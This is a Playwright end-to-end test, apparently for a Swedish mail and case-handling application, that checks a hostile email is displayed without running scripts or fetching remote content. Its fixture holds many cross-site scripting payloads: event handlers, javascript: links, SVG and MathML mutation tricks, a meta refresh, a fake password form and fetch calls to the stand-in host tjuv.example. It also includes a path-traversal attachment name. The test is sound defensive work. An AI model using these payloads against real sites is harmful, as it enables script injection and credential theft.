import { billing } from '@underlag/prisma/seed/mail/sources/cast';
import type { Sample } from '@underlag/prisma/seed/mail/sources/sample';
import { expect, test } from '../actors.ts';
import { casePage } from '../case-page.ts';
import { daysAgo, takeIn } from '../mail.ts';

const mark = Date.now();
const attack = `document.title='HI'+'T';top.document.title='HI'+'T';fetch('https://tjuv.example/')`;
const hostile: Sample = {
  file: `fientligt-${mark}`,
  at: daysAgo(2),
  from: '"<img src=x onerror=alert(1)>" <skurk@angrepp.example>',
  to: billing,
  subject: `<script>${attack}</script><img src=x onerror=alert(1)> ${mark}`,
  html: `<html><head><meta http-equiv="refresh" content="0;url=https://tjuv.example/"><base href="https://tjuv.example/">
<style>@import url("https://tjuv.example/a.css"); body { background: url(https://tjuv.example/b.png) }</style>
<link rel="stylesheet" href="https://tjuv.example/c.css"></head>
<body onload="${attack}" background="https://tjuv.example/d.png">
<script>${attack}</script><p onmouseover="${attack}" style="position:fixed;inset:0">Hej, läs det här.</p>
<img src="https://tjuv.example/pixel.gif" width="1" height="1"><img src=x onerror="${attack}">
<svg onload="${attack}"><a xlink:href="javascript:${attack}"><text>tryck</text></a></svg>
<iframe src="https://tjuv.example/"></iframe><object data="https://tjuv.example/"></object><embed src="https://tjuv.example/">
<form action="https://tjuv.example/"><input name="losenord"><button>Logga in</button></form>
<a href="javascript:${attack}">Öppna fakturan</a><video src="https://tjuv.example/v.mp4" autoplay></video>
<math><mtext><table><mglyph><style><img src=x onerror="${attack}"></style></mglyph></table></mtext></math>
</body></html>`,
  files: [
    {
      name: '../../<script>alert(1)</script>.html',
      type: 'text/html',
      bytes: Buffer.from(`<script>${attack}</script>`),
    },
    {
      name: 'bild.svg',
      type: 'image/svg+xml',
      bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${attack}"/>`),
    },
  ],
};

test('a hostile message is shown, runs nothing and asks nobody', async ({ as, allow }) => {
  allow(/violates the following Content Security Policy directive: "img-src/);
  await takeIn(hostile);
  const karin = await as('karin');
  const dialogs: string[] = [];
  karin.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });

  await karin.goto(`/arbete/all?q=${mark}`);
  const row = karin.getByRole('row').filter({ hasText: String(mark) });
  await expect(row).toContainText('onerror=alert(1)');
  await row.getByRole('link').click();

  const { heading, timeline } = casePage(karin);
  await expect(heading).toContainText('<script>');
  const message = timeline.getByRole('article').first();
  await expect(message).toContainText('<img src=x onerror=alert(1)>');
  const asInMail = message.getByRole('button', { name: 'Visa som i mejlet' });
  if (await asInMail.isVisible()) await asInMail.click();
  const frame = message.frameLocator('iframe');
  await expect(frame.getByText('Hej, läs det här.')).toBeVisible();
  await expect(
    frame.locator('script, link, meta[http-equiv=refresh], form, input, svg, math, iframe, object, video'),
  ).toHaveCount(0);
  await expect(frame.locator('[onload], [onerror], [onmouseover], [href^="javascript:"]')).toHaveCount(0);
  await expect(message.getByRole('link', { name: /\.html/ })).toHaveAttribute('download', /.*/);
  await expect(frame.locator('style')).not.toContainText(['tjuv.example']);
  await expect(karin).not.toHaveTitle(/HIT/);
  expect(dialogs).toEqual([]);

  // Only when asked for may the picture of the mail be fetched; here nobody answers.
  allow(/tjuv\.example\/pixel\.gif/);
  await karin.route('https://tjuv.example/**', (route) => route.abort());
  const asked = karin.waitForRequest('https://tjuv.example/pixel.gif');
  await message.getByRole('button', { name: 'Visa bilder' }).click();
  await asked;
  await expect(message.getByText('Bilder från nätet visas.')).toBeVisible();
});
